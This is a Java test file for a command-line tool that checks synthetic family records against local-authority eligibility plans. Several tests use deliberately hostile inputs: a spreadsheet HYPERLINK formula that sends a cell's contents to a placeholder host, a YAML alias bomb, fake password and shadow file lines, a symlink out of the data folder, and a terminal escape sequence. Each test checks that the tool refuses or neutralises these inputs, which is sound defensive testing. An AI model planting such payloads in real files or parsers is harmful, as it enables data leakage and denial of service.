package org.hearth.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.hearth.engine.plan.Plans;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The hearth command end to end, on a generated authority, as a user runs it. */
class HearthCommandTest {
    private static final String AS_OF = "2019-03-31";

    @TempDir
    static Path work;

    static Path data;

    @BeforeAll
    static void generate() {
        data = work.resolve("authority");
        CommandRun run = run("generate", "--families", "300", "--seed", "7", "--out", data.toString());
        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.err()).contains("wrote 300 families");
    }

    @Test
    @DisplayName("evaluate writes the JSON contract: plan, as_of, and per family eligibility, problems, outcomes and claim")
    void evaluateJsonContract() throws IOException {
        Path out = work.resolve("southwark.json");
        CommandRun run = run("evaluate", "--plan", "southwark", "--data", data.toString(), "--as-of", AS_OF, "--format", "json",
                "--out", out.toString());

        assertThat(run.code()).as(run.err()).isZero();
        JsonNode result = new ObjectMapper().readTree(out.toFile());
        assertThat(result.at("/plan/id").asText()).isEqualTo("southwark");
        assertThat(result.get("as_of").asText()).isEqualTo(AS_OF);
        assertThat(result.get("families")).hasSize(300);
        assertThat(result.at("/data/complete").asBoolean()).isTrue();
        assertThat(result.at("/data/rows_left_out").asLong()).isZero();
        int claimable = 0;
        for (JsonNode family : result.get("families")) {
            assertThat(family.get("family_id").asText()).startsWith("F");
            assertThat(family.get("eligible").isBoolean()).isTrue();
            assertThat(family.at("/claim/claimable").isBoolean()).isTrue();
            String route = family.at("/claim/route").isNull() ? null : family.at("/claim/route").asText();
            assertThat(route).isIn(null, "significant_and_sustained_progress", "continuous_employment");
            claimable += family.at("/claim/claimable").asBoolean() ? 1 : 0;
            for (JsonNode problem : family.get("problems")) {
                assertThat(problem.has("id") && problem.has("identified") && problem.has("identified_by")
                        && problem.has("progress_met") && problem.has("outcomes")).isTrue();
                for (JsonNode outcome : problem.get("outcomes")) {
                    assertThat(outcome.get("id").isTextual() && outcome.get("met").isBoolean()).isTrue();
                    assertThat(outcome.get("explanation").asText()).isNotBlank();
                }
            }
        }
        assertThat(claimable).as("some synthetic families turn around and are claimable").isPositive();
    }

    @Test
    @DisplayName("evaluate --format csv writes one row per family and problem")
    void evaluateCsv() throws IOException {
        Path out = work.resolve("sunderland.csv");
        CommandRun run = run("evaluate", "--plan", "sunderland", "--data", data.toString(), "--as-of", AS_OF, "--format", "csv",
                "--out", out.toString());

        assertThat(run.code()).as(run.err()).isZero();
        List<String> lines = Files.readAllLines(out);
        assertThat(lines.get(0)).startsWith("family_id,eligible,claimable,route,problem_id,identified");
        assertThat(lines).hasSize(1 + 300 * 6);
    }

    @Test
    @DisplayName("explain prints one family's decisions with their explanations")
    void explain() {
        CommandRun run = run("explain", "--plan", "worcestershire", "--data", data.toString(), "--as-of", AS_OF, "--family", "F000001");

        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.out()).contains("Family F000001 under", "Eligible:", "Problem 1", "Claim:");
    }

    @Test
    @DisplayName("explain names a family that is not in the folder and exits 1")
    void explainUnknownFamily() {
        CommandRun run = run("explain", "--plan", "southwark", "--data", data.toString(), "--as-of", AS_OF, "--family", "NOPE");

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.err()).contains("family NOPE is not in");
    }

    @Test
    @DisplayName("plan validate passes the four plans and reports a broken plan's errors with their lines, exit 1")
    void validate() throws IOException {
        List<String> args = new ArrayList<>(List.of("plan", "validate"));
        for (String name : Plans.BUILT_IN) {
            args.add(Path.of("..", "plans", name + ".yaml").toString());
        }
        CommandRun valid = run(args.toArray(String[]::new));
        assertThat(valid.code()).as(valid.err()).isZero();
        assertThat(valid.out()).contains("southwark.yaml: valid", "sunderland.yaml: valid", "southampton.yaml: valid",
                "worcestershire.yaml: valid");

        Path broken = work.resolve("broken.yaml");
        Files.writeString(broken, Files.readString(Path.of("..", "plans", "southwark.yaml"))
                .replaceFirst("type: count_in_window", "type: count_in_windows"));
        CommandRun invalid = run("plan", "validate", broken.toString());
        assertThat(invalid.code()).isEqualTo(1);
        assertThat(invalid.err()).containsPattern("broken\\.yaml:\\d+:\\d+: ").contains("count_in_windows");
    }

    @Test
    @DisplayName("a data folder with a bad row is rejected whole: exit 1, the row's file and line printed, no result written")
    void badDataIsRejected() throws IOException {
        Path bad = copyOf(data, "bad");
        Path people = bad.resolve("people.csv");
        List<String> lines = new ArrayList<>(Files.readAllLines(people));
        lines.set(2, lines.get(2).replaceFirst(",\\d{4}-\\d{2}-\\d{2},", ",2015-02-30,"));
        Files.write(people, lines);
        Path out = work.resolve("never.json");

        CommandRun run = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF, "--out", out.toString());

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.err()).contains("people.csv:3:").contains("2015-02-30").contains("nothing was loaded");
        assertThat(out).doesNotExist();
        try (var files = Files.list(work)) {
            assertThat(files.map(Path::toString)).noneMatch(name -> name.contains("never.json"));
        }

        CommandRun skipping = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF, "--out",
                out.toString(), "--skip-invalid");
        assertThat(skipping.code()).as(skipping.err()).isZero();
        assertThat(skipping.err()).contains("rejected people.csv line 3");
        assertThat(out).exists();
    }

    @Test
    @DisplayName("a quote never closed in an extract rejects the folder, even with --skip-invalid: exit 1, the line, no result")
    void aQuoteNeverClosedIsNeverASilentLoss() throws IOException {
        Path bad = copyOf(data, "open-quote");
        Path offences = bad.resolve("offences.csv");
        List<String> lines = new ArrayList<>(Files.readAllLines(offences));
        String row = lines.get(9);
        int lastComma = row.lastIndexOf(',');
        lines.set(9, row.substring(0, lastComma + 1) + "\"" + row.substring(lastComma + 1));
        Files.write(offences, lines);
        Path out = work.resolve("open-quote.csv");

        for (boolean skipInvalid : new boolean[] {false, true}) {
            List<String> args = new ArrayList<>(List.of("evaluate", "--plan", "southwark", "--data", bad.toString(),
                    "--as-of", AS_OF, "--format", "csv", "--out", out.toString()));
            if (skipInvalid) {
                args.add("--skip-invalid");
            }
            CommandRun run = run(args.toArray(String[]::new));

            assertThat(run.code()).as(run.err()).isEqualTo(1);
            assertThat(run.err()).contains("offences.csv:10:7: source: a value runs over a line break")
                    .contains("nothing was loaded").doesNotContain("Exception");
            assertThat(out).doesNotExist();
        }
    }

    @Test
    @DisplayName("a record file linked to a file outside the folder is refused, and none of that file is printed")
    void aLinkOutOfTheFolderIsRefusedUnread() throws IOException {
        Path bad = copyOf(data, "linked");
        Path secret = work.resolve("secret.csv");
        Files.writeString(secret, "root:$6$hash-of-a-password:19000:0:99999:7:::\n");
        Files.delete(bad.resolve("justice.csv"));
        Files.createSymbolicLink(bad.resolve("justice.csv"), secret);

        CommandRun run = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF, "--skip-invalid");

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.err()).contains("justice.csv:0:0: is a link to a file outside the data folder, which is not read")
                .doesNotContain("root").doesNotContain("hash-of-a-password");
        assertThat(run.out()).isEmpty();
    }

    @Test
    @DisplayName("--out that is a device, an input, a link or in a missing folder is refused before any work: exit 1, nothing changed")
    void refusesAnOutputThatIsNotARegularFileOrIsAnInput() throws IOException {
        Path offences = data.resolve("offences.csv");
        byte[] before = Files.readAllBytes(offences);
        Path elsewhere = work.resolve("linked-target.csv");
        Files.writeString(elsewhere, "kept");
        Path link = work.resolve("link.csv");
        Files.createSymbolicLink(link, elsewhere);

        List<String[]> cases = List.of(
                new String[] {"/dev/null", "Will not write /dev/null: it is not a regular file (a device, a pipe or a socket)"},
                new String[] {offences.toString(), "Will not write " + offences + ": it is one of this command's inputs"},
                new String[] {link.toString(), "Will not write " + link + ": it is a link, which is not followed"},
                new String[] {work.resolve("missing/result.json").toString(), "the folder " + work.resolve("missing")
                        + " does not exist"},
                new String[] {work.toString(), "it is a folder"});
        for (String[] target : cases) {
            CommandRun run = run("evaluate", "--plan", "southwark", "--data", data.toString(), "--as-of", AS_OF, "--out", target[0]);

            assertThat(run.code()).as(target[0]).isEqualTo(1);
            assertThat(run.err()).contains(target[1]).doesNotContain("Exception");
            assertThat(run.out()).isEmpty();
        }
        assertThat(Files.readAllBytes(offences)).isEqualTo(before);
        assertThat(Files.readString(elsewhere)).isEqualTo("kept");
        assertThat(Path.of("/dev/null")).satisfies(devNull -> assertThat(Files.isRegularFile(devNull)).isFalse());
        try (var files = Files.list(work)) {
            assertThat(files.map(Path::toString)).noneMatch(name -> name.endsWith(".partial"));
        }
    }

    @Test
    @DisplayName("output that cannot be written to standard output ends the command with exit 1 and says so")
    void aFailedWriteToStandardOutputIsAFailure() {
        StringWriter err = new StringWriter();
        java.io.Writer closed = new java.io.Writer() {
            @Override
            public void write(char[] buffer, int offset, int length) throws IOException {
                throw new IOException("No space left on device");
            }

            @Override
            public void flush() throws IOException {
                throw new IOException("No space left on device");
            }

            @Override
            public void close() {
            }
        };

        int code = HearthCommand.execute(new PrintWriter(closed, true), new PrintWriter(err, true), "explain", "--plan",
                "southwark", "--data", data.toString(), "--as-of", AS_OF, "--family", "F000001");

        assertThat(code).isEqualTo(1);
        assertThat(err.toString()).contains("Could not write to standard output").contains("the output is incomplete");
    }

    @Test
    @DisplayName("generate never writes into a folder that holds anything, and needs at least one family")
    void generateRefusesAFolderThatIsNotEmpty() throws IOException {
        Path kept = work.resolve("kept");
        Files.createDirectories(kept);
        Files.writeString(kept.resolve("notes.txt"), "an analyst's notes");

        CommandRun run = run("generate", "--families", "5", "--out", kept.toString());

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.err()).contains("Will not write into " + kept + ": it is not empty");
        try (var files = Files.list(kept)) {
            assertThat(files.map(path -> path.getFileName().toString())).containsExactly("notes.txt");
        }
        CommandRun none = run("generate", "--families", "0", "--out", work.resolve("none").toString());
        assertThat(none.code()).isEqualTo(2);
        assertThat(none.err()).contains("--families must be at least 1, not 0").doesNotContain("Exception");
        assertThat(work.resolve("none")).doesNotExist();
    }

    @Test
    @DisplayName("generate --plan answers only that plan's key-worker questions, as an authority answers its own")
    void generateAnswersOnlyThePlansNamed() throws IOException {
        Path own = work.resolve("own-plan");

        CommandRun run = run("generate", "--families", "300", "--seed", "7", "--plan", "southampton", "--out", own.toString());

        assertThat(run.code()).as(run.err()).isZero();
        List<String> plansAnswered = Files.readAllLines(own.resolve("worker_assessments.csv")).stream().skip(1)
                .map(line -> line.split(",", -1)[3]).distinct().toList();
        List<String> allFour = Files.readAllLines(data.resolve("worker_assessments.csv")).stream().skip(1)
                .map(line -> line.split(",", -1)[3]).distinct().sorted().toList();
        assertThat(plansAnswered).containsExactly("southampton");
        assertThat(allFour).containsExactly("southampton", "southwark", "sunderland", "worcestershire");
    }

    @Test
    @DisplayName("usage errors exit 2 in plain words: a date that is not a date, no command, no plan command; a review date before the plan, 1")
    void usageErrorsExitTwoInPlainWords() {
        CommandRun date = run("evaluate", "--plan", "southwark", "--data", data.toString(), "--as-of", "yesterday");
        assertThat(date.code()).isEqualTo(2);
        assertThat(date.err()).contains("'yesterday' is not a date in the form YYYY-MM-DD").doesNotContain("Exception")
                .doesNotContain("java.");

        CommandRun early = run("evaluate", "--plan", "southampton", "--data", data.toString(), "--as-of", "2018-03-31");
        assertThat(early.code()).isEqualTo(1);
        assertThat(early.err()).contains("The review date 2018-03-31 is before plan southampton 2018.1 is in force"
                + " (from 2018-04-01)");

        CommandRun nothing = run();
        assertThat(nothing.code()).isEqualTo(2);
        assertThat(nothing.err()).contains("Say what to do").contains("evaluate");
        assertThat(nothing.out()).isEmpty();

        CommandRun plan = run("plan");
        assertThat(plan.code()).isEqualTo(2);
        assertThat(plan.err()).contains("Say what to do with plans").contains("validate");
    }

    @Test
    @DisplayName("--format csv writes an id that a spreadsheet would run as a formula with an apostrophe in front")
    void csvOutputIsSafeToOpenInASpreadsheet() throws IOException {
        Path hostile = copyOf(data, "hostile");
        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")";
        for (String file : List.of("families.csv", "memberships.csv")) {
            Path path = hostile.resolve(file);
            Files.writeString(path, Files.readString(path).replace("F000001,", "\"" + formula.replace("\"", "\"\"") + "\","));
        }

        Path out = work.resolve("hostile.csv");
        CommandRun run = run("evaluate", "--plan", "southwark", "--data", hostile.toString(), "--as-of", AS_OF, "--format", "csv",
                "--out", out.toString());

        assertThat(run.code()).as(run.err()).isZero();
        assertThat(Files.readString(out)).contains("\n\"'" + formula.replace("\"", "\"\"") + "\",")
                .doesNotContain("\n\"=HYPERLINK").doesNotContain("\n=");
    }

    @Test
    @DisplayName("plan validate with several files reports each, an unreadable one too, and goes on to the rest")
    void validateGoesOnPastAFileTheYamlReaderCannotTake() throws IOException {
        Path bomb = work.resolve("bomb.yaml");
        Files.writeString(bomb, "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n");
        Path binary = work.resolve("binary.yaml");
        Files.write(binary, new byte[] {'i', 'd', ':', ' ', 0, 1, 2, '\n'});
        Path folder = work.resolve("a-folder.yaml");
        Files.createDirectories(folder);
        Path passwords = work.resolve("passwd");
        Files.writeString(passwords, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n");
        Path shadow = work.resolve("shadow");
        Files.writeString(shadow, "root:$6$hash-of-a-password:20228:0:99999:7:::\nbin:*:20228:0:99999:7:::\n");
        Path good = Path.of("..", "plans", "southwark.yaml");

        CommandRun run = run("plan", "validate", bomb.toString(), binary.toString(), folder.toString(), passwords.toString(),
                shadow.toString(), good.toString());

        assertThat(run.code()).isEqualTo(1);
        assertThat(run.err()).contains(bomb + ":0:0: not valid YAML: more than 10 aliases")
                .contains(binary + ":1:5: holds the control character \\u0000")
                .contains(folder + ":0:0: is a folder, not a plan file")
                .contains(passwords + ":1:1: is not a plan").contains(shadow + ":1:1: is not a plan")
                .doesNotContain("root:").doesNotContain("hash-of-a-password").doesNotContain("Exception");
        assertThat(run.out()).contains("southwark.yaml: valid");
    }

    @Test
    @DisplayName("a result made with --skip-invalid says so in the JSON, lists every row left out beside it, and says so at the end")
    void aResultFromPartOfTheDataNeverPassesForAWholeOne() throws IOException {
        Path bad = copyOf(data, "partly-bad");
        giveUnrealDates(bad.resolve("people.csv"), 30);
        Path out = work.resolve("partly.json");

        CommandRun run = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF, "--out", out.toString(),
                "--skip-invalid");

        assertThat(run.code()).as(run.err()).isZero();
        Path list = work.resolve("partly.json.left-out.csv");
        JsonNode result = new ObjectMapper().readTree(out.toFile());
        assertThat(result.at("/data/complete").asBoolean()).isFalse();
        long leftOut = result.at("/data/rows_left_out").asLong();
        assertThat(leftOut).isGreaterThan(30); // the 30 people, and their memberships and records
        assertThat(result.at("/data/left_out_list").asText()).isEqualTo(list.toString());
        List<String> listed = Files.readAllLines(list);
        assertThat(listed.get(0)).isEqualTo("file,line,column,field,message");
        assertThat(listed).hasSize(1 + result.at("/data/reasons").asInt());
        assertThat(listed.get(1)).startsWith("people.csv,2,2,date_of_birth,'2015-02-30' is not a real date");
        assertThat(run.err().lines().filter(line -> line.startsWith("rejected "))).hasSize(DataFolder.ON_SCREEN);
        assertThat(run.err()).contains("rows left out").contains("every one is listed in " + list)
                .contains("made from part of the data: " + leftOut + " rows left out, listed in " + list);
    }

    @Test
    @DisplayName("--errors FILE lists every error of a rejected folder; without it the message says how to see them all")
    void everyErrorIsListedWhenAsked() throws IOException {
        Path bad = copyOf(data, "many-bad");
        giveUnrealDates(bad.resolve("offences.csv"), 40);
        Path errors = work.resolve("every-error.csv");

        CommandRun without = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF);
        CommandRun with = run("evaluate", "--plan", "southwark", "--data", bad.toString(), "--as-of", AS_OF, "--errors",
                errors.toString());

        assertThat(without.code()).isEqualTo(1);
        assertThat(without.err()).contains("40 errors; nothing was loaded").contains("and 20 more")
                .contains("give --errors FILE to have every error listed in a file");
        assertThat(with.code()).isEqualTo(1);
        assertThat(with.err()).contains("every error is listed in " + errors);
        assertThat(Files.readAllLines(errors)).hasSize(41).element(40).asString().startsWith("offences.csv,41,3,date,");
    }

    /** A way to spoil a copy of the generated folder, as a careless user or an attacker would. */
    interface Spoiler {
        void spoil(Path folder) throws Exception;
    }

    static Stream<Arguments> spoiledFolders() {
        return Stream.of(
                Arguments.of("a record file that is a folder", (Spoiler) folder -> {
                    Files.delete(folder.resolve("neet.csv"));
                    Files.createDirectory(folder.resolve("neet.csv"));
                }, "neet.csv:0:0: is a folder, not a file"),
                Arguments.of("a record file that is a named pipe", (Spoiler) folder -> {
                    Files.delete(folder.resolve("neet.csv"));
                    assertThat(new ProcessBuilder("mkfifo", folder.resolve("neet.csv").toString()).start().waitFor()).isZero();
                }, "neet.csv:0:0: is not a regular file"),
                Arguments.of("a record file linked to /dev/zero", (Spoiler) folder -> {
                    Files.delete(folder.resolve("neet.csv"));
                    Files.createSymbolicLink(folder.resolve("neet.csv"), Path.of("/dev/zero"));
                }, "neet.csv:0:0: is a link to a file outside the data folder"),
                Arguments.of("a dangling link", (Spoiler) folder -> {
                    Files.delete(folder.resolve("neet.csv"));
                    Files.createSymbolicLink(folder.resolve("neet.csv"), folder.resolve("gone.csv"));
                }, "neet.csv:0:0: is a link that leads to no file"),
                Arguments.of("a file that is not ours", (Spoiler) folder ->
                        Files.writeString(folder.resolve("neet.csv"), "root:$6$not-for-your-eyes:19000:0:99999:7:::\n"),
                        "neet.csv:1:0: does not begin with a header row"),
                Arguments.of("a terminal escape in an id", (Spoiler) folder -> replaceFirst(folder.resolve("people.csv"),
                        "P000001-1,", "P000001-1\u001B[2J,"), "people.csv:2:1: person_id: 'P000001-1\\u001B[2J' holds the"
                        + " control character \\u001B"),
                Arguments.of("bytes that are not UTF-8", (Spoiler) folder -> {
                    Path people = folder.resolve("people.csv");
                    byte[] bytes = Files.readAllBytes(people);
                    int at = new String(bytes, StandardCharsets.ISO_8859_1).indexOf("P000001-1,");
                    bytes[at + 8] = (byte) 0xFF;
                    Files.write(people, bytes);
                }, "people.csv:2:1: person_id: 'P000001-\\uFFFD' holds bytes that are not UTF-8 text"),
                Arguments.of("a number too large", (Spoiler) folder -> replaceFirst(folder.resolve("attendance.csv"),
                        ",autumn,1", ",autumn,99999999999"), "possible_sessions: '99999999999"),
                Arguments.of("a cell of 17 MB", (Spoiler) folder -> replaceFirst(folder.resolve("attendance.csv"),
                        "school census\n", "\"" + "x".repeat(17 * 1024 * 1024) + "\"\n"),
                        "a value on this line is longer than the 16,777,216 characters a value may have"),
                Arguments.of("a member before they were born", (Spoiler) folder -> {
                    Path memberships = folder.resolve("memberships.csv");
                    Files.writeString(memberships, Files.readString(memberships)
                            .replaceFirst("(?m)^([^,]+,[^,]+,child,[^,]+,)\\d{4}-\\d{2}-\\d{2},", "$11900-01-01,"));
                }, "start_date 1900-01-01 is before person P"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("spoiledFolders")
    @DisplayName("a spoiled data folder is refused: exit 1, the file and what is wrong, nothing of it echoed raw, no result")
    void aSpoiledFolderIsRefusedWithItsReason(String what, Spoiler spoiler, String expected) throws Exception {
        Path spoiled = copyOf(data, "spoiled-" + what.replaceAll("[^a-z0-9]+", "-"));
        spoiler.spoil(spoiled);
        Path out = work.resolve("spoiled-" + what.hashCode() + ".json");

        CommandRun run = run("evaluate", "--plan", "southwark", "--data", spoiled.toString(), "--as-of", AS_OF, "--out",
                out.toString());

        assertThat(run.code()).as(run.err()).isEqualTo(1);
        assertThat(run.err()).contains(expected).contains("nothing was loaded").doesNotContain("Exception")
                .doesNotContain("\u001B").doesNotContain("not-for-your-eyes").doesNotContain("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx");
        assertThat(run.err().length()).isLessThan(5_000);
        assertThat(out).doesNotExist();
    }

    private static void replaceFirst(Path file, String what, String with) throws IOException {
        String text = Files.readString(file);
        assertThat(text).contains(what);
        int at = text.indexOf(what);
        Files.writeString(file, text.substring(0, at) + with + text.substring(at + what.length()));
    }

    @Test
    @DisplayName("the demo summarises every plan per problem and says how to read a family's explanation")
    void demo() {
        Path out = work.resolve("demo");
        CommandRun run = run("demo", "--families", "200", "--out", out.toString(), "--no-serve");

        assertThat(run.code()).as(run.err()).isZero();
        assertThat(run.out()).contains("Hearth demo: a synthetic authority of 200 families")
                .contains("southwark", "sunderland", "southampton", "worcestershire")
                .contains("claimable")
                .contains("./hearth explain --plan");
        assertThat(out.resolve("results").resolve("southwark.json")).exists();
        CommandRun again = run("demo", "--families", "50", "--out", out.toString(), "--no-serve");
        assertThat(again.code()).as("an earlier demo's folder is replaced").isZero();
    }

    /** Makes the first date of each of the first rows of the file 30 February. */
    private static void giveUnrealDates(Path file, int rows) throws IOException {
        List<String> lines = new ArrayList<>(Files.readAllLines(file));
        for (int i = 1; i <= rows; i++) {
            lines.set(i, lines.get(i).replaceFirst(",\\d{4}-\\d{2}-\\d{2},", ",2015-02-30,"));
        }
        Files.write(file, lines);
    }

    private static Path copyOf(Path from, String name) throws IOException {
        Path to = work.resolve(name);
        Files.createDirectories(to);
        try (var files = Files.list(from)) {
            for (Path file : files.toList()) {
                Files.copy(file, to.resolve(file.getFileName()));
            }
        }
        return to;
    }

    private static CommandRun run(String... args) {
        return CommandRun.of(args);
    }
}
